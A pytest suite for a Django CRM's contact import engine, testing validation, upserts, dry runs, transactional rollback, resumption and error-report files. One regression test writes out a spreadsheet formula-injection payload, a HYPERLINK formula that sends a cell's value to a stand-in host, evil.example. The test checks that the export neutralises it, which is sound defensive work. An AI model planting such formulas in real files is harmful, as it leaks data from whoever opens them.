"""The contact import engine on a real database: validation, upserts, dry run, atomicity."""

from __future__ import annotations

import csv
import datetime as dt
from collections.abc import Callable
from pathlib import Path

import pytest
from django.conf import settings
from django.db import connection

from rapport.core.models import AuditLogEntry, OutboxEvent
from rapport.customers.models import (
    Address,
    Affiliation,
    Customer,
    CustomFieldDefinition,
    EmailAddress,
    PhoneNumber,
    Tag,
)
from rapport.customers.schemas import customer_payload
from rapport.dataquality.mapping import MappingError
from rapport.dataquality.models import ImportRowError, ImportRun
from rapport.dataquality.services import run_import, write_error_file
from rapport.dataquality.sources import SourceError

from .conftest import contact, read_csv

pytestmark = pytest.mark.django_db


def people() -> int:
    return Customer.objects.filter(kind="person").count()


def test_valid_rows_are_normalised_with_contact_points_tags_and_organization(
    write_csv: Callable[..., Path],
) -> None:
    path = write_csv([contact(1, organization="Acme SA"), contact(2, organization="Acme SA")])
    result, _ = run_import(actor=None, object_type="contacts", path=path, mapping=None)
    assert (result.created, result.updated, result.failed) == (2, 0, 0)
    ada = Customer.objects.get(external_id="X00001")
    assert (ada.first_name, ada.last_name, ada.display_name) == (
        "Ada",
        "Lovelace1",
        "Ada Lovelace1",
    )
    assert ada.primary_email == "ada1@example.com"
    assert ada.primary_phone == "+33612340001"
    assert (ada.city, ada.country) == ("Paris", "FR")
    assert str(ada.birth_date) == "1990-12-10"
    assert sorted(ada.tags.values_list("name", flat=True)) == ["newsletter", "vip"]
    assert Address.objects.get(customer=ada).line1 == "1 Rue de Rivoli"
    org = Customer.objects.get(kind="organization")
    assert org.organization_name == "Acme SA"
    assert Affiliation.objects.filter(organization=org).count() == 2
    assert "acme sa" in ada.search_text


def test_every_invalid_field_of_every_row_is_reported_and_those_rows_not_written(
    write_csv: Callable[..., Path],
) -> None:
    rows = [
        contact(1),
        contact(2, email="not-an-email", phone="12"),
        contact(3, birth_date="31/12/1990", country="Narnia"),
        contact(4),
    ]
    result, _ = run_import(actor=None, object_type="contacts", path=write_csv(rows), mapping=None)
    assert (result.created, result.failed) == (2, 2)
    by_row = {(e.row, e.field) for e in result.errors}
    # Row numbers as in a spreadsheet: header is row 1, so contact(2) is row 3.
    assert by_row == {(3, "email"), (3, "phone"), (4, "birth_date"), (4, "country")}
    messages = {e.field: e.message for e in result.errors}
    assert "not a valid e-mail address" in messages["email"]
    assert "YYYY-MM-DD" in messages["birth_date"]
    assert "Narnia" in messages["country"]
    assert not Customer.objects.filter(external_id__in=["X00002", "X00003"]).exists()


def test_importing_the_same_file_twice_creates_no_duplicates(
    write_csv: Callable[..., Path],
) -> None:
    path = write_csv([contact(i, organization="Acme") for i in range(30)])
    first, _ = run_import(actor=None, object_type="contacts", path=path, mapping=None)
    second, _ = run_import(actor=None, object_type="contacts", path=path, mapping=None)
    assert (first.created, first.updated) == (30, 0)
    # Nothing to write the second time: every row is reported unchanged, none updated.
    assert (second.created, second.updated, second.unchanged) == (0, 0, 30)
    assert people() == 30
    assert Customer.objects.filter(kind="organization").count() == 1
    assert EmailAddress.objects.count() == 30
    assert PhoneNumber.objects.count() == 30
    assert Address.objects.count() == 30
    assert Affiliation.objects.count() == 30
    # Unchanged rows are neither audited nor emitted a second time.
    assert AuditLogEntry.objects.filter(action="update").count() == 0
    assert OutboxEvent.objects.filter(type="customer.updated").count() == 0


def test_upsert_by_email_matches_and_updates(write_csv: Callable[..., Path]) -> None:
    run_import(
        actor=None,
        object_type="contacts",
        path=write_csv([contact(1, external_id="")]),
        mapping=None,
        upsert_by="email",
    )
    changed = contact(1, external_id="", first_name="Augusta", email="ADA1@Example.COM")
    result, _ = run_import(
        actor=None,
        object_type="contacts",
        path=write_csv([changed], name="b.csv"),
        mapping=None,
        upsert_by="email",
    )
    assert (result.created, result.updated) == (0, 1)
    assert people() == 1
    ada = Customer.objects.get()
    assert ada.first_name == "Augusta"
    assert ada.version == 2
    update = AuditLogEntry.objects.get(action="update")
    assert update.changes["first_name"] == ["Ada", "Augusta"]
    event = OutboxEvent.objects.get(type="customer.updated")
    assert event.data["first_name"] == "Augusta"
    assert "first_name" in event.data["changed_fields"]


def test_update_adds_new_email_as_primary_and_keeps_the_old(write_csv: Callable[..., Path]) -> None:
    run_import(actor=None, object_type="contacts", path=write_csv([contact(1)]), mapping=None)
    path = write_csv([contact(1, email="new@example.org", tags="partner")], name="b.csv")
    result, _ = run_import(actor=None, object_type="contacts", path=path, mapping=None)
    assert result.updated == 1
    ada = Customer.objects.get()
    assert ada.primary_email == "new@example.org"
    assert list(ada.emails.order_by("-is_primary", "email").values_list("email", "is_primary")) == [
        ("new@example.org", True),
        ("ada1@example.com", False),
    ]
    assert sorted(ada.tags.values_list("name", flat=True)) == ["newsletter", "partner", "vip"]


def test_same_external_id_twice_in_one_file_updates_the_first(
    write_csv: Callable[..., Path],
) -> None:
    path = write_csv([contact(1), contact(1, first_name="Grace")])
    result, _ = run_import(actor=None, object_type="contacts", path=path, mapping=None)
    assert (result.created, result.updated) == (1, 1)
    assert Customer.objects.get(kind="person").first_name == "Grace"


def test_dry_run_writes_nothing(write_csv: Callable[..., Path]) -> None:
    path = write_csv(
        [contact(i, organization="Acme") for i in range(10)] + [contact(99, email="x")]
    )
    result, _ = run_import(
        actor=None, object_type="contacts", path=path, mapping=None, dry_run=True
    )
    assert (result.created, result.failed) == (10, 1)
    assert Customer.objects.count() == 0
    assert Tag.objects.count() == 0
    assert AuditLogEntry.objects.count() == 0
    assert OutboxEvent.objects.count() == 0


def test_created_and_audited_with_events_matching_the_api_payload(
    write_csv: Callable[..., Path],
) -> None:
    CustomFieldDefinition.objects.create(key="shoe_size", label="Shoe size", field_type="number")
    path = write_csv(
        [{**contact(1, organization="Acme"), "Shoe size": "42"}],
        header=[*contact(1), "Shoe size"],
    )
    run_import(actor=None, object_type="contacts", path=path, mapping=None)
    ada = Customer.objects.get(kind="person")
    assert ada.custom_fields == {"shoe_size": 42}
    created = AuditLogEntry.objects.get(action="create", object_id=str(ada.pk))
    assert created.changes["primary_email"] == [None, "ada1@example.com"]
    assert created.actor_label == "system"
    event = OutboxEvent.objects.get(type="customer.created", aggregate_id=str(ada.pk))
    fresh = Customer.objects.prefetch_related("tags", "emails", "phones", "addresses").get(
        pk=ada.pk
    )
    assert event.data == customer_payload(fresh)
    assert OutboxEvent.objects.filter(type="customer.created").count() == 2  # + the organization


def test_custom_field_errors_are_reported_per_field(write_csv: Callable[..., Path]) -> None:
    CustomFieldDefinition.objects.create(key="shoe_size", label="Shoe size", field_type="number")
    path = write_csv([{**contact(1), "shoe": "big"}], header=[*contact(1), "shoe"])
    result, _ = run_import(
        actor=None,
        object_type="contacts",
        path=path,
        mapping={**{h: h for h in contact(1)}, "shoe": "cf:shoe_size"},
    )
    assert [(e.row, e.field) for e in result.errors] == [(2, "cf:shoe_size")]
    assert "not a number" in result.errors[0].message


def _install_failing_trigger(bad_phone: str) -> None:
    """A database that refuses one phone number: a genuine failure inside the batch's
    transaction, after that row's customer has been inserted."""
    with connection.cursor() as cursor:
        if connection.vendor == "sqlite":
            cursor.execute(
                "CREATE TRIGGER refuse_phone BEFORE INSERT ON customers_phonenumber "
                f"WHEN NEW.e164 = '{bad_phone}' BEGIN SELECT RAISE(ABORT, 'phone refused'); END"
            )
        else:
            cursor.execute(
                "CREATE FUNCTION refuse_phone() RETURNS trigger AS $$ BEGIN "
                f"IF NEW.e164 = '{bad_phone}' THEN RAISE EXCEPTION 'phone refused'; END IF; "
                "RETURN NEW; END $$ LANGUAGE plpgsql"
            )
            cursor.execute(
                "CREATE TRIGGER refuse_phone BEFORE INSERT ON customers_phonenumber "
                "FOR EACH ROW EXECUTE FUNCTION refuse_phone()"
            )


def test_a_database_failure_mid_batch_leaves_nothing_of_that_row(
    write_csv: Callable[..., Path],
) -> None:
    _install_failing_trigger("+33612340005")
    path = write_csv([contact(i) for i in range(10)])
    run = ImportRun.objects.create(
        object_type="contacts", original_name="contacts.csv", headers=list(contact(0))
    )
    result, _ = run_import(actor=None, object_type="contacts", path=path, mapping=None, run=run)
    # The batch is retried row by row: the nine good rows go in, the refused one is reported.
    assert (result.created, result.failed) == (9, 1)
    assert result.errors[0].row == 7 and "phone refused" in result.errors[0].message
    assert not Customer.objects.filter(external_id="X00005").exists()
    assert not EmailAddress.objects.filter(email="ada5@example.com").exists()
    assert not AuditLogEntry.objects.filter(object_repr__endswith="Lovelace5").exists()
    assert people() == 9
    assert AuditLogEntry.objects.filter(action="create").count() == 9
    assert OutboxEvent.objects.filter(type="customer.created").count() == 9
    run.refresh_from_db()
    assert (run.rows_committed, run.created, run.failed) == (10, 9, 1)
    error_file = write_error_file(run)
    rows = read_csv(Path(settings.VAR_DIR) / "files" / error_file)
    assert [r["row"] for r in rows] == ["7"]
    assert rows[0]["external_id"] == "X00005"
    assert "phone refused" in rows[0]["reason"]


def test_checkpoint_resume_skips_committed_rows(write_csv: Callable[..., Path]) -> None:
    """What a restarted worker does: a run whose checkpoint says 4 rows are committed
    resumes at row 5 and the totals come out exact."""
    path = write_csv([contact(i) for i in range(10)])
    run = ImportRun.objects.create(object_type="contacts", original_name="c.csv")
    run_import(
        actor=None,
        object_type="contacts",
        path=write_csv([contact(i) for i in range(4)], name="first4.csv"),
        mapping=None,
        run=run,
    )
    run.refresh_from_db()
    assert run.rows_committed == 4
    result, _ = run_import(actor=None, object_type="contacts", path=path, mapping=None, run=run)
    assert (result.created, result.updated, result.rows) == (10, 0, 10)
    assert people() == 10


def test_error_file_neutralises_formulas(write_csv: Callable[..., Path]) -> None:
    path = write_csv([contact(1, first_name='=HYPERLINK("http://x")', email="bad")])
    run = ImportRun.objects.create(
        object_type="contacts", original_name="c.csv", headers=list(contact(1))
    )
    run_import(actor=None, object_type="contacts", path=path, mapping=None, run=run)
    run.refresh_from_db()
    rows = read_csv(Path(settings.VAR_DIR) / "files" / write_error_file(run))
    assert rows[0]["first_name"].startswith("'=")


def test_error_file_neutralises_the_header_names_too(write_csv: Callable[..., Path]) -> None:
    """Issue 18: the column names were copied raw, so a file with a formula for a header
    gave whoever downloaded the report (administrators: everyone's) a live formula."""
    evil = '=HYPERLINK("http://evil.example/?x="&A2;"click")'
    row = {**contact(1, email="bad"), evil: "x"}
    path = write_csv([row])
    run = ImportRun.objects.create(object_type="contacts", original_name="c.csv", headers=list(row))
    run_import(actor=None, object_type="contacts", path=path, mapping=None, run=run)
    run.refresh_from_db()
    target = Path(settings.VAR_DIR) / "files" / write_error_file(run)
    with target.open(encoding="utf-8-sig", newline="") as f:
        header = next(csv.reader(f))
    assert "'" + evil in header and evil not in header
    assert not [name for name in header if name.startswith(("=", "@"))]


def test_xlsx_import(tmp_path: Path) -> None:
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    sheet.append(list(contact(1)))
    sheet.append(list(contact(1).values()))
    row2 = contact(2)
    sheet.append([*list(row2.values())[:6], dt.date(1985, 5, 17), *list(row2.values())[7:]])
    path = tmp_path / "contacts.xlsx"
    workbook.save(path)
    result, _ = run_import(actor=None, object_type="contacts", path=path, mapping=None)
    assert (result.created, result.failed) == (2, 0)
    assert str(Customer.objects.get(external_id="X00002").birth_date) == "1985-05-17"


def test_csv_dialects_and_encodings_are_detected(write_csv: Callable[..., Path]) -> None:
    rows = [contact(1, first_name="Zoë", city="Köln", country="DE", postcode="50667")]
    latin = write_csv(rows, name="latin.csv", delimiter=";", encoding="latin-1")
    result, _ = run_import(actor=None, object_type="contacts", path=latin, mapping=None)
    assert result.created == 1
    bom = write_csv([contact(2)], name="bom.csv", delimiter="\t", encoding="utf-8-sig")
    result, _ = run_import(actor=None, object_type="contacts", path=bom, mapping=None)
    assert result.created == 1
    assert Customer.objects.get(external_id="X00001").first_name == "Zoë"
    assert Customer.objects.get(external_id="X00002").primary_email == "ada2@example.com"


def test_bad_files_and_mappings_raise_clear_errors(
    tmp_path: Path, write_csv: Callable[..., Path]
) -> None:
    with pytest.raises(SourceError, match="no such file"):
        run_import(actor=None, object_type="contacts", path=tmp_path / "nope.csv", mapping=None)
    empty = tmp_path / "empty.csv"
    empty.write_text("")
    with pytest.raises(SourceError, match="empty"):
        run_import(actor=None, object_type="contacts", path=empty, mapping=None)
    path = write_csv([contact(1)])
    with pytest.raises(MappingError, match="'mail'"):
        run_import(actor=None, object_type="contacts", path=path, mapping={"mail": "email"})
    with pytest.raises(MappingError, match="'e_mail'"):
        run_import(actor=None, object_type="contacts", path=path, mapping={"email": "e_mail"})


def test_failed_rows_are_stored_for_the_error_report(write_csv: Callable[..., Path]) -> None:
    run = ImportRun.objects.create(
        object_type="contacts", original_name="c.csv", headers=list(contact(1))
    )
    path = write_csv([contact(1), contact(2, email="nope"), contact(3, phone="abc")])
    run_import(actor=None, object_type="contacts", path=path, mapping=None, run=run)
    assert list(ImportRowError.objects.filter(run=run).values_list("row", "field")) == [
        (3, "email"),
        (4, "phone"),
    ]


@pytest.mark.skipif(connection.vendor != "sqlite", reason="a SQLite PRAGMA")
def test_sqlite_checkpoints_the_log_rarely_during_an_import_and_restores_it_after(
    write_csv: Callable[..., Path],
) -> None:
    # Pages that many batches change are copied back once per checkpoint, not once per
    # batch (decision 0501); the web server's connections keep SQLite's default.
    def setting() -> int:
        with connection.cursor() as cursor:
            cursor.execute("PRAGMA wal_autocheckpoint")
            return int(cursor.fetchone()[0])

    before = setting()
    seen: list[int] = []
    path = write_csv([contact(i) for i in range(5)])
    run_import(
        actor=None,
        object_type="contacts",
        path=path,
        mapping=None,
        on_progress=lambda _rows: seen.append(setting()),
    )
    assert seen == [20_000]
    assert setting() == before != 20_000
